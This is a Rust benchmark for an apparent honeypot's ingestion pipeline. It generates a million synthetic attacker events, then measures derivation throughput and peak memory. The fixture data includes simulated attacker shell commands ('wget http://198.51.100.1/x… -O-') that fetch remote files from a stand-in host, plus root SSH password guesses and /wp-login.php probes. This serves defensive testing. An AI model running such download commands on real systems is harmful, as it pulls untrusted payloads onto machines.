//! Ingestion throughput with the profiler running: `BENCH_ROWS` representative events
//! (default 1,000,000) are committed through the store's writer first (not timed), then
//! one [`Pipeline`] derives credentials, bounties and attacker profiles from all of them,
//! batch by batch with the cursor, exactly as the master's task does.
//!
//! Prints events/s of the derivation and the peak RSS of the process during it (the
//! peak is reset with `/proc/self/clear_refs` after the inserts). Run
//! `scripts/bench-ingest.sh`; nothing is asserted.
//!
//! The mix: 40 % ssh `auth_attempt` with `secret_b64` (2,000 passwords, so most repeat),
//! 25 % http `request` with a JSON `headers` object (8 user agents), 20 % shell
//! `command`, 10 % `connect`, 5 % `file_captured`; 10,000 source addresses (IPv4 and
//! IPv6 documentation ranges) over 12 deckies.
#[path = "../src/allocator.rs"]
mod allocator;

use tokio::time::Instant;

use base64::Engine;
use decnet::roles::master::ingest::{BATCH_ROWS, worker::Pipeline};
use decnet::store::{LogRecord, Options, Store};
use decnet::syslog::Message;
use time::OffsetDateTime;

#[allow(clippy::disallowed_methods)] // a benchmark's knobs, not decnet configuration
fn env(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

type BenchResult<T> = Result<T, Box<dyn std::error::Error>>;

const AGENTS: &[&str] = &[
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "",
    "Googlebot/2.1",
];

fn ip(i: u64) -> String {
    let n = i % 10_000;
    match n {
        0..=255 => format!("198.51.100.{n}"),
        256..=511 => format!("203.0.113.{}", n - 256),
        _ => format!("2001:db8::{n:x}"),
    }
}

/// Event `i` of the mix.
fn line(i: u64, now: OffsetDateTime) -> String {
    let src = ip(i.wrapping_mul(2_654_435_761) >> 7);
    let decky = format!("decky-{:02}", i % 12);
    let pick = i % 20;
    let (service, event) = match pick {
        0..=7 => ("ssh", "auth_attempt"),
        8..=12 => ("http", "request"),
        13..=16 => ("ssh", "command"),
        17 | 18 => ("ssh", "connect"),
        _ => ("ssh", "file_captured"),
    };
    let m = Message::new(now, &decky, service, event)
        .param("src_ip", src.as_str())
        .param("src_port", "51234");
    match pick {
        0..=7 => {
            let pw = format!("hunter{}", i % 2000);
            let b64 = base64::engine::general_purpose::STANDARD.encode(&pw);
            m.param("username", "root")
                .param("secret_printable", pw.as_str())
                .param("secret_b64", b64.as_str())
                .param("outcome", "failure")
        }
        8..=12 => {
            let headers = serde_json::json!({
                "Host": "10.0.0.1", "Accept": "*/*",
                "User-Agent": AGENTS[(i % AGENTS.len() as u64) as usize],
            })
            .to_string();
            m.param("method", "GET")
                .param("path", "/wp-login.php")
                .param("headers", headers.as_str())
        }
        13..=16 => m.param(
            "command",
            format!("wget http://198.51.100.1/x{} -O-", i % 50),
        ),
        17 | 18 => m,
        _ => m
            .param("stored_as", format!("2026-03-04T10:00:00Z_{:012x}_x.sh", i))
            .param("sha256", format!("{i:064x}"))
            .param("size", "1234")
            .param("orig_path", "/tmp/x.sh"),
    }
    .to_string()
}

/// Peak resident set size of this process (`VmHWM`), in KiB.
fn peak_rss_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmHWM:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
        })
        .unwrap_or(0)
}

fn main() -> BenchResult<()> {
    if !allocator::configure() {
        return Err("SQLite refused the allocator".into());
    }
    let rows = env("BENCH_ROWS", 1_000_000);
    let batch = env("BENCH_BATCH", u64::from(BATCH_ROWS)) as u32;
    let dir = tempfile::tempdir()?;
    let store = Store::open(dir.path().join("bench.db"), Options::default())?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    let now = OffsetDateTime::now_utc();
    let start = Instant::now();
    runtime.block_on(async {
        let (writer, task) = store.spawn_writer()?;
        let mut i = 0;
        while i < rows {
            let end = (i + 1000).min(rows);
            let records = (i..end)
                .map(|n| LogRecord::from_line("local", "bench", n + 1, line(n, now).as_bytes()))
                .collect();
            writer.write(records).await?;
            i = end;
        }
        drop(writer);
        task.await?;
        Ok::<_, Box<dyn std::error::Error>>(())
    })?;
    println!(
        "inserted {rows} rows through the writer in {:.1} s",
        start.elapsed().as_secs_f64()
    );
    // Reset the peak so it measures ingestion only (Linux: "5" clears VmHWM).
    let _ = std::fs::write("/proc/self/clear_refs", "5");
    let rss_before = peak_rss_kib();

    let start = Instant::now();
    let mut pipeline = Pipeline::open(&store)?;
    let mut done = 0u64;
    loop {
        let step = pipeline.step(batch)?;
        if step.rows == 0 {
            break;
        }
        done += step.rows as u64;
    }
    let secs = start.elapsed().as_secs_f64().max(1e-9);
    let reader = store.reader()?;
    let attackers = reader.count_attackers(&decnet::store::AttackerQuery {
        search: None,
        service: None,
        sort: decnet::store::AttackerSort::Recent,
        limit: 1,
        offset: 0,
    })?;
    let credentials = reader.count_credentials(None)?;
    let bounties = reader.count_bounties(None, None)?;
    println!(
        "ingested {done} events in {secs:.1} s: {:.0} events/s (batch {batch}); \
         {attackers} attackers, {credentials} credentials, {bounties} bounties",
        done as f64 / secs
    );
    println!(
        "peak RSS during ingestion: {:.1} MiB (before: {:.1} MiB)",
        peak_rss_kib() as f64 / 1024.0,
        rss_before as f64 / 1024.0
    );
    Ok(())
}
